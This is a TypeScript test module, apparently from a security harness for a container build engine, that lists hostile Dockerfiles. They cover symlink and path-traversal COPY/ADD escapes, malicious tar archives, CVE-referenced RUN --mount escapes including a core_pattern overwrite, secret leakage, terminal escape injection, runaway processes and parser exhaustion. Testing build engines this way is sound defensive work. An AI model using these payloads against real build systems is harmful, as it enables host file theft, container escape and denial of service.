import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { commandLine, descendants } from '../support/processes.js';
import { type TestMember, tar } from '../support/tar.js';
import { type Attack, hasControlCharacters } from './attack.js';
import type { AttackRun } from './attack-run.js';
import { IMAGE } from './engine.js';

/** A Dockerfile that is hostile, and its context. */

type Files = Record<string, string | Uint8Array | { link: string }>;

function context(attempt: AttackRun, files: Files): string {
  const folder = mkdtempSync(join(attempt.host.work, 'context-'));
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    if (typeof content === 'object' && 'link' in content) symlinkSync(content.link, join(folder, name));
    else writeFileSync(join(folder, name), content);
  }
  return folder;
}

/** Builds, and shows what came out of it. */
async function build(
  attempt: AttackRun,
  lines: string[],
  files: Files = {},
  flags: string[] = [],
  show = 'cat /out /out/victim',
) {
  const image = `localhost/${attempt.token}-built:1`;
  const Dockerfile = `FROM ${IMAGE}\n${lines.join('\n')}\n`;
  const args = ['build', '-t', image, ...flags, context(attempt, { Dockerfile, ...files })];
  const result = await attempt.command(args);
  if (result.status === 0) {
    await attempt.shell(show, { image });
    await attempt.engine.command(['rmi', '-f', image]);
  }
  return result;
}

function attack(name: string, commit: Attack['commit'], rest: Partial<Attack> = {}): Attack {
  return { name, aim: 'host read', by: 'Dockerfile', commit, ...rest };
}

const UP = '../../../../../../../../../..';

export const BUILDS: Attack[] = [
  attack('COPY of links that lead out of the context', async (attempt) => {
    const { folder, victim } = attempt.host;
    const targets = { up: `${UP}${victim}`, absolute: victim, folder, climbing: `${UP}${folder}` };
    for (const [name, target] of Object.entries(targets)) {
      const files: Files = { [name]: { link: target } };
      await build(attempt, [`COPY ${name} /out`], files);
      await build(attempt, [`COPY ${name}/victim /out`], files);
      await build(attempt, [`ADD ${name}* /out/`], files);
    }
  }),
  attack('COPY and ADD of names with .., by glob, file://, --parents and --from', async (attempt) => {
    const { victim } = attempt.host;
    for (const line of [
      `COPY ${UP}${victim} /out`,
      `COPY ${victim} /out`,
      `ADD file://${victim} /out`,
      `ADD --unpack=false ${UP}${victim} /out`,
      `COPY --from=${IMAGE} ${UP}${victim} /out`,
      `COPY */${UP}${victim} /out`,
    ])
      await build(attempt, [line], { 'a/b': '' });
  }),
  attack('COPY --from of a link in an image', async (attempt) => {
    const { folder, victim } = attempt.host;
    const made = `RUN mkdir /l; ln -s ${victim} /l/file; ln -s ${folder} /l/dir; ln -s /proc/self/fd/7${folder} /l/fd`;
    for (const line of [
      'COPY --from=0 /l/file /out',
      'COPY --from=0 /l/dir/ /out/',
      'COPY --from=0 /l/fd/ /out/',
      'COPY --from=0 /l/dir/victim /out',
    ])
      await build(attempt, [made, `FROM ${IMAGE}`, line]);
  }),
  attack(
    'COPY to a link that leads out of the image',
    async (attempt) => {
      const { folder } = attempt.host;
      for (const target of [folder, `${UP}${folder}`, `/proc/self/cwd/${UP}${folder}`])
        for (const line of ['COPY new /l/new', 'COPY new victim /l/', 'WORKDIR /l/made', 'ADD new.tar /l/'])
          await build(attempt, [`RUN ln -s ${target} /l`, line], {
            new: 'x',
            victim: 'x',
            'new.tar': tar({ name: 'victim', content: 'x' }),
          });
    },
    { aim: 'host write', reference: 'CVE-2024-1753 (its class)' },
  ),
  attack(
    'ADD of an archive with links, hard links and names with ..',
    async (attempt) => {
      const { folder, victim } = attempt.host;
      const archives: TestMember[][] = [
        [
          { name: 'l', type: '2', target: folder },
          { name: 'l/new', content: 'x' },
        ],
        [{ name: `${UP}${folder}/new`, content: 'x' }],
        [{ name: victim, content: 'x' }],
        [
          { name: 'h', type: '1', target: `${UP}${victim}` },
          { name: 'h', content: 'x' },
        ],
      ];
      for (const members of archives)
        await build(attempt, ['ADD a.tar /t/', 'RUN cat /t/h /t/l/victim; true'], {
          'a.tar': tar(...members),
        });
    },
    { aim: 'host write' },
  ),
  attack('the ignore file and the Dockerfile are links out of the context', async (attempt) => {
    const { victim } = attempt.host;
    await build(
      attempt,
      ['COPY . /out/'],
      { '.dockerignore': { link: victim }, '.containerignore': { link: victim } },
      [],
      'cat /out/.dockerignore /out/.containerignore',
    );
    // An archive from the network: whoever builds does not see what is in it.
    const members: TestMember[] = [{ name: 'Dockerfile', type: '2', target: victim }];
    await attempt.command(['build', '-'], { input: tar(...members) });
    const file = join(attempt.host.work, 'context.tar');
    writeFileSync(
      file,
      tar(...members, { name: 'd', type: '2', target: attempt.host.folder }, { name: 'd/new', content: 'x' }),
    );
    await attempt.command(['build', file]);
  }),
  attack(
    'replacing the source of masks: RUN --mount=target=/dev',
    async (attempt) => {
      let isLost = false;
      for (const target of ['/dev', '/dev/../dev', '/dev/pts', '/proc', '/proc/sys', '/sys']) {
        const { status, output } = await build(
          attempt,
          [
            `RUN --mount=type=bind,source=d,target=${target},rw grep -E ' /proc/(keys|timer_list) ' /proc/self/mountinfo; echo seen; echo '|/tmp/evil' > /proc/keys; true`,
          ],
          { 'd/null': { link: '/proc/sys/kernel/core_pattern' }, 'd/ptmx': { link: attempt.host.victim } },
          ['--no-cache'],
        );
        if (status === 0) isLost ||= /\/proc\/keys [^\n]* proc /.test(output);
      }
      return isLost;
    },
    { aim: 'escape', reference: 'CVE-2025-31133', alsoAsRoot: true },
  ),
  attack(
    'RUN --mount with a source that is a link out of an image or the context',
    async (attempt) => {
      const { folder } = attempt.host;
      const commands = 'cat /m/victim; echo x > /m/new; true';
      const made = [`RUN ln -s ${folder} /l && ln -s / /root && ln -s ${UP}${folder} /up`];
      for (const source of ['/l', `/root${folder}`, '/up', `/w/${UP}${folder}`])
        await build(attempt, [
          ...made,
          `FROM ${IMAGE}`,
          `RUN --mount=type=bind,from=0,source=${source},target=/m,rw ${commands}`,
        ]);
      for (const link of [folder, `${UP}${folder}`])
        await build(attempt, [`RUN --mount=type=bind,source=l,target=/m,rw ${commands}`], { l: { link } });
      await build(attempt, [`RUN --mount=type=bind,source=${UP}${folder},target=/m,rw ${commands}`]);
    },
    { aim: 'escape', reference: 'CVE-2024-1753, CVE-2024-23651' },
  ),
  attack(
    'RUN --mount at a link, which is removed afterwards',
    async (attempt) => {
      const { folder } = attempt.host;
      const cases = [
        [`RUN ln -s ${folder} /l`, 'RUN --mount=type=tmpfs,target=/l/made/deep true'],
        [`RUN ln -s ${UP}${folder} /l`, 'RUN --mount=type=bind,target=/l/victim/x,rw true'],
        [
          `RUN --mount=type=tmpfs,target=/a/b rm -rf /x; mv /a /y 2>/dev/null; ln -s ${folder} /a 2>/dev/null; true`,
        ],
        [`RUN --mount=type=bind,source=f,target=/a/victim cd / && mkdir /z && ln -s ${folder} /z/a; true`],
      ];
      for (const lines of cases) await build(attempt, lines, { f: 'x' });
    },
    { aim: 'host write', reference: 'CVE-2024-23652' },
  ),
  attack(
    'RUN --mount=type=cache with .. in its id or source, or with links from an earlier step',
    async (attempt) => {
      const { folder } = attempt.host;
      const commands = 'cat /m/victim; echo x > /m/new; true';
      for (const options of [
        `id=${UP}${folder}`,
        `id=${folder}`,
        `source=${UP}${folder}`,
        `id=x,from=${IMAGE},source=/w/${UP}${folder}`,
      ])
        await build(attempt, [`RUN --mount=type=cache,${options},target=/m ${commands}`]);
      const poisoned = `RUN --mount=type=cache,id=${attempt.token},target=/m rm -rf /m/*; ln -s ${folder} /m/s`;
      await build(attempt, [
        poisoned,
        `RUN --mount=type=cache,id=${attempt.token},source=s,target=/m ${commands}`,
      ]);
      await build(attempt, [
        poisoned,
        `RUN --mount=type=cache,id=${attempt.token},target=/m ls /m/s/; cat /m/s/victim; true`,
      ]);
    },
    { aim: 'escape', reference: 'CVE-2024-9675' },
  ),
  attack(
    'secrets in what a build leaves: layers, history, caches',
    async (attempt) => {
      const file = join(attempt.host.work, 'secret');
      writeFileSync(file, attempt.host.secret);
      const image = `localhost/${attempt.token}-secret:1`;
      const lines = [
        `FROM ${IMAGE}`,
        'RUN --mount=type=secret,id=s cp /run/secrets/s /dev/shm/s; ln /run/secrets/s /kept; ls -la /run/secrets',
        'RUN --mount=type=secret,id=s,target=/deep/in/s test -s /deep/in/s',
      ];
      const folder = context(attempt, { Dockerfile: `${lines.join('\n')}\n` });
      const args = ['build', '-t', image, '--secret', `id=s,src=${file}`, folder];
      const { status } = await attempt.command(args);
      if (status !== 0) return;
      attempt.reveal((await attempt.engine.command(['history', '--no-trunc', image])).output);
      attempt.reveal(unpacked((await attempt.engine.command(['save', image])).output));
      await attempt.engine.command(['rmi', '-f', image]);
    },
    { aim: 'leak' },
  ),
  attack(
    "control characters in a build's output: ARG, ENV, LABEL, file names, commands",
    async (attempt) => {
      const evil = '\x1b]0;evil\x07';
      const lines = [`ARG A="${evil}"`, 'ENV E="$A"', `LABEL l="${evil}"`, `COPY "no${evil}such" /out`];
      const { output } = await build(attempt, lines);
      const bad = await build(attempt, [`NOSUCH${evil} x`]);
      const unknown = await attempt.command([
        'build',
        context(attempt, { Dockerfile: `FROM no-such${evil}\n` }),
      ]);
      return [output, bad.output, unknown.output].some(hasControlCharacters);
    },
    { aim: 'confusion' },
  ),
  attack(
    'COPY --parents of more folders than a fixed-size list holds',
    async (attempt) => {
      const files: Files = {};
      for (let index = 0; index < 80; index++) files[`packages/p${index}/package.json`] = '{}';
      const { output, status } = await build(
        attempt,
        ['COPY --parents packages/*/package.json ./'],
        files,
        [],
        'ls /packages | wc -l',
      );
      return /malloc|SIGSEGV|corrupt|Segmentation/.test(output) || status === null || status > 125;
    },
    { aim: 'escape', fosterOnly: 'this podman does not know COPY --parents' },
  ),
  attack(
    'RUN leaves processes running after the step',
    async (attempt) => {
      await build(attempt, [
        `RUN (setsid sh -c 'while true; do sleep 1; done' ${attempt.token} &) ; attacker bomb 20 ${attempt.token}`,
      ]);
      return descendants().some(({ pid }) => commandLine(pid).includes(attempt.token));
    },
    { aim: 'exhaustion' },
  ),
  attack(
    'a Dockerfile that is long, deep and slow to parse',
    async (attempt) => {
      const cases = [
        `FROM ${IMAGE}\n${'RUN true \\\n'.repeat(20_000)}`,
        `FROM ${IMAGE}\nENV ${'A='.repeat(50_000)}\n`,
        `FROM ${IMAGE}\nENV X=${'${A:-'.repeat(2000)}x${'}'.repeat(2000)}\n`,
        `FROM ${IMAGE}\nLABEL ${'"'.repeat(30_001)}\n`,
        `${'FROM scratch\n'.repeat(3000)}`,
        `FROM ${IMAGE}\nCOPY ${'[!'.repeat(3000)} ${'**/'.repeat(2000)}x /\n`,
        `FROM ${IMAGE}\nRUN <<${'E'.repeat(1000)}\n`.repeat(50),
      ];
      for (const Dockerfile of cases) {
        const { isTooLate, output } = await attempt.command([
          'build',
          context(attempt, { Dockerfile, 'a/a/a': '' }),
        ]);
        if (isTooLate || /unexpected error|panic:|stack/i.test(output.slice(-2000))) return true;
      }
      return false;
    },
    { aim: 'exhaustion' },
  ),
  attack(
    'an ignore file with a pattern that takes forever to match',
    async (attempt) => {
      const name = 'a'.repeat(200);
      const { isTooLate } = await attempt.command([
        'build',
        context(attempt, {
          Dockerfile: `FROM ${IMAGE}\nCOPY . /t/\n`,
          '.dockerignore': `${'*a'.repeat(60)}b\n${'**/'.repeat(60)}b\n`,
          [name]: '',
          [`d/${name}`]: '',
        }),
      ]);
      return isTooLate;
    },
    { aim: 'exhaustion' },
  ),
];

/** All layers of a saved image, unpacked one after the other. */
function unpacked(archive: string): string {
  const bytes = Buffer.from(archive, 'latin1');
  const found: string[] = [archive];
  for (let at = bytes.indexOf('1f8b08', 0, 'hex'); at >= 0; at = bytes.indexOf('1f8b08', at + 1, 'hex')) {
    try {
      found.push(gunzipSync(bytes.subarray(at), { finishFlush: 2 }).toString('latin1'));
    } catch {
      // not the beginning of anything
    }
  }
  return found.join('\n');
}
